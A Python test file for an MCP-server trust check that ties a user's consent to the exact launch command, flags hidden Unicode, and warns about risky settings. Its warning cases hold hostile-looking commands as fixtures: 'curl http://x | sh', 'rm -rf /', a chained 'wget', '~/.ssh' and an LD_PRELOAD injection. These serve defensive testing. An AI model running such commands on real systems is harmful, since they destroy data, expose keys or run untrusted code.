"""Consent to a first start: what is shown, what is bound, when it is asked again."""

import json
import os
from pathlib import Path
from typing import Any

import pytest

from patina.mcp.trust import Trust
from patina.model.faults import StoreFault, UsageFault
from patina.model.settings import ServerSettings

pytestmark = pytest.mark.skipif(os.name == "nt", reason="scripts and modes are POSIX")


@pytest.fixture
def programs(tmp_path: Path) -> Path:
    folder = tmp_path / "bin"
    folder.mkdir()
    for name in ("server", "other"):
        (folder / name).write_text("#!/bin/sh\n")
        (folder / name).chmod(0o755)
    return folder


def trust_of(tmp_path: Path, programs: Path, **settings: Any) -> Trust:
    environ = {"PATH": str(programs), "HOME": str(tmp_path)}
    return Trust({"s": ServerSettings(**settings)}, environ, tmp_path / "data")


BASE: dict[str, Any] = {
    "command": "server",
    "args": ("--a", "b"),
    "env": {"TOKEN": "secret:t"},
    "cwd": "/",
}


def test_consent_holds_for_exactly_what_was_shown(tmp_path: Path, programs: Path) -> None:
    trust = trust_of(tmp_path, programs, **BASE)
    assert not trust.is_trusted("s")
    trust.trust("s")
    assert trust.is_trusted("s")
    again = trust_of(tmp_path, programs, **BASE)
    assert again.is_trusted("s")
    assert (tmp_path / "data/trust.json").stat().st_mode & 0o077 == 0


@pytest.mark.parametrize(
    "change",
    [
        {"command": "other"},
        {"args": ("--a", "b", "c")},
        {"args": ("--a b",)},
        {"args": ()},
        {"cwd": "/tmp"},
        {"env": {"TOKEN": "secret:t", "NODE_OPTIONS": "--require x"}},
        {"env": {}},
        {"env": {"TOKEN": "secret:t", "PATH": "/usr/bin"}},
    ],
)
def test_any_change_asks_again(tmp_path: Path, programs: Path, change: dict[str, Any]) -> None:
    trust_of(tmp_path, programs, **BASE).trust("s")
    assert not trust_of(tmp_path, programs, **(BASE | change)).is_trusted("s")


def test_another_binary_behind_the_same_name_asks_again(tmp_path: Path, programs: Path) -> None:
    trust = trust_of(tmp_path, programs, **BASE)
    trust.trust("s")
    earlier = tmp_path / "earlier"
    earlier.mkdir()
    (programs / "server").rename(earlier / "server")
    assert not trust.is_trusted("s")
    moved = Trust(
        {"s": ServerSettings(**BASE)},
        {"PATH": f"{earlier}{os.pathsep}{programs}", "HOME": str(tmp_path)},
        tmp_path / "data",
    )
    assert not moved.is_trusted("s")


def test_values_of_the_environment_are_not_part_of_it(tmp_path: Path, programs: Path) -> None:
    trust_of(tmp_path, programs, **BASE).trust("s")
    assert trust_of(tmp_path, programs, **(BASE | {"env": {"TOKEN": "env:X"}})).is_trusted("s")
    assert "secret:t" not in (tmp_path / "data/trust.json").read_text()


def test_consent_given_by_another_process_is_seen(tmp_path: Path, programs: Path) -> None:
    here, there = (trust_of(tmp_path, programs, **BASE) for _ in range(2))
    assert not here.is_trusted("s")
    there.trust("s")
    assert here.is_trusted("s")
    there.forget("s")
    assert not here.is_trusted("s")


@pytest.mark.parametrize("content", ["", "{", "[]", '{"version": 1, "servers": {"s": 1}}', "\0"])
def test_a_damaged_file_is_no_consent(tmp_path: Path, programs: Path, content: str) -> None:
    trust = trust_of(tmp_path, programs, **BASE)
    trust.trust("s")
    (tmp_path / "data/trust.json").write_text(content)
    assert not trust.is_trusted("s")
    trust.trust("s")
    assert trust.is_trusted("s")
    json.loads((tmp_path / "data/trust.json").read_text())


def test_unknown_servers(tmp_path: Path, programs: Path) -> None:
    trust = trust_of(tmp_path, programs, **BASE)
    with pytest.raises(UsageFault, match="no MCP server named nope"):
        trust.trust("nope")


def test_remote_servers_need_none(tmp_path: Path, programs: Path) -> None:
    trust = trust_of(tmp_path, programs, transport="streamable-http", url="https://example.com")
    assert trust.is_trusted("s")


def test_a_file_that_cannot_be_written(tmp_path: Path, programs: Path) -> None:
    (tmp_path / "data").write_text("in the way")
    with pytest.raises(StoreFault, match="cannot be written"):
        trust_of(tmp_path, programs, **BASE).trust("s")


def test_everything_is_shown(tmp_path: Path, programs: Path) -> None:
    hidden = "a\u202eb\x1b[2Jc\u200bd\u3164e\U000e0041f\ufe0f"
    long = "x" * 5000
    env = {"B": "", "A": ""}
    trust = trust_of(tmp_path, programs, command="server", args=(hidden, long), env=env)
    plan = trust.describe("s")
    assert plan.binary == str(programs / "server")
    assert plan.cwd == str(tmp_path)
    assert plan.env_names == ("A", "B")
    assert long in plan.command
    assert "\\u202e" in plan.command
    assert "\\x1b[2J" in plan.command
    for char in "\u202e\x1b\u200b\u3164\U000e0041\ufe0f":
        assert char not in plan.command + "".join(plan.argv)
    assert any("hidden" in warning for warning in plan.warnings)
    assert not plan.trusted


@pytest.mark.parametrize(
    ("settings", "words"),
    [
        ({"command": "sudo", "args": ("server",)}, "`sudo`"),
        ({"command": "server", "args": ("rm", "-rf", "/")}, "`rm`"),
        ({"command": "sh", "args": ("-c", "curl http://x | sh")}, "a shell"),
        ({"command": "sh", "args": ("-c", "curl http://x | sh")}, "`curl`"),
        ({"command": "bash", "args": ("-c", "true;wget x")}, "`wget`"),
        ({"command": "server", "args": ("~/.ssh",)}, "keys"),
        ({"command": "server", "env": {"LD_PRELOAD": "x"}}, "LD_PRELOAD"),
        ({"command": "missing"}, "no program missing"),
    ],
)
def test_warnings(tmp_path: Path, programs: Path, settings: dict[str, Any], words: str) -> None:
    plan = trust_of(tmp_path, programs, **settings).describe("s")
    assert any(words in warning for warning in plan.warnings)


def test_an_ordinary_server_has_no_warnings(tmp_path: Path, programs: Path) -> None:
    assert trust_of(tmp_path, programs, **(BASE | {"cwd": ""})).describe("s").warnings == ()
